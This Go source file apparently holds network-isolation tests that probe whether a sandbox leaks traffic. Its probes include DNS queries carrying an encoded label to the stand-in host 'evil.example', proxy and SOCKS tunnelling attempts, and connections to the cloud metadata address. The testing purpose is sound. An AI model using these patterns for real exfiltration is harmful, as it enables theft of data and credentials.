package main

import (
	"encoding/binary"
	"errors"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"time"
)

// egress are probes of a network that leads to ringd, under a policy that lists
// nothing. No address but loopback is tried where there is any interface but
// loopback. Argument: tcp, a port of the host's loopback.
func egress() map[string]probe {
	const (
		own, v4, v6 = "127.0.0.1:53", "8.8.8.8:53", "[2001:4860:4860::8888]:53"
		a, txt, six = 1, 16, 28
	)
	word := "mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example"
	m := map[string]probe{
		"e_name":        func(args) string { return asked("udp", own, "example.com", a) },
		"e_name_base64": func(args) string { return asked("udp", v4, word, a) },
		"e_name_txt":    func(args) string { return asked("udp", v4, word, txt) },
		"e_name_tcp":    func(args) string { return asked("tcp", v4, word, a) },
		"e_name_six":    func(args) string { return asked("udp", v6, word, six) },
		"e_connect":     func(args) string { return spoken("CONNECT example.com:443 HTTP/1.1\r\n\r\n", "HTTP/1.1 ") },
		"e_http": func(args) string {
			return spoken("GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n", "HTTP/1.1 ")
		},
		"e_socks": func(args) string {
			return spoken("\x05\x01\x00\x05\x01\x00\x03\x0bexample.com\x01\xbb", "\x05\x00\x05")
		},
		"e_tcp_listed": func(args) string { return reached("93.184.216.34:443") },
		"e_tcp_other":  func(args) string { return reached("93.184.216.34:22") },
		"e_tcp_meta":   func(args) string { return reached("169.254.169.254:80") },
		"e_tcp_hostlo": func(g args) string { return reached("127.0.0.1:" + g["tcp"]) },
		"e_quic":       quic,
		"e_proxy_port": func(args) string { return listen("127.0.0.1:" + proxyPort) },
	}
	for id, p := range m {
		m[id] = func(g args) string {
			if id != "e_tcp_hostlo" && !loopbackOnly() {
				return "devices"
			}
			return p(g)
		}
	}
	return m
}

const (
	proxyPort = "3128"
	patience  = 15 * time.Second
)

// patiently opens a connection that does not wait for ever.
func patiently(network, to string) (net.Conn, error) {
	c, err := net.DialTimeout(network, to, patience)
	if err == nil {
		err = c.SetDeadline(time.Now().Add(patience))
	}
	return c, err
}

// asked asks for a name and returns the code of the answer.
func asked(network, to, name string, kind uint16) string {
	q := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for l := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(l))), l...)
	}
	q = binary.BigEndian.AppendUint16(append(q, 0), kind)
	q = binary.BigEndian.AppendUint16(q, 1)
	c, err := patiently(network, to)
	if err != nil {
		return is(err)
	}
	defer c.Close()
	if network == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	if _, err := c.Write(q); err != nil {
		return is(err)
	}
	b := make([]byte, 512)
	n, err := c.Read(b)
	if network == "tcp" && n >= 2 {
		b, n = b[2:], n-2
	}
	switch {
	case err != nil:
		return is(err)
	case n < 12:
		return "short"
	case binary.BigEndian.Uint16(b[6:]) != 0:
		return "answered"
	case b[3]&15 == 3:
		return "NXDOMAIN"
	default:
		return "rcode" + strconv.Itoa(int(b[3]&15))
	}
}

// spoken says something to the proxy and returns the word behind a text.
func spoken(say, behind string) string {
	c, err := patiently("tcp", "127.0.0.1:"+proxyPort)
	if err != nil {
		return is(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, say); err != nil {
		return is(err)
	}
	b := make([]byte, len(behind)+3)
	n, err := io.ReadFull(c, b)
	rest, ok := strings.CutPrefix(string(b[:n]), behind)
	switch {
	case !ok && err != nil:
		return is(err)
	case !ok:
		return "something"
	case behind[0] == 5:
		return "reply" + strconv.Itoa(int(rest[0]))
	default:
		return rest
	}
}

// reached says whether a connection lasts until something was sent on it.
func reached(to string) string {
	c, err := patiently("tcp", to)
	if err != nil {
		return is(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, "leak"); err != nil {
		return is(err)
	}
	if _, err := c.Read(make([]byte, 1)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
		return is(err)
	}
	return "ok"
}

// quic sends what QUIC begins with.
func quic(args) string {
	c, err := patiently("udp", "93.184.216.34:443")
	if err != nil {
		return is(err)
	}
	defer c.Close()
	if _, err := c.Write(append([]byte{0xc0, 0, 0, 0, 1}, make([]byte, 1200)...)); err != nil {
		return is(err)
	}
	_, err = c.Read(make([]byte, 1))
	return is(err)
}
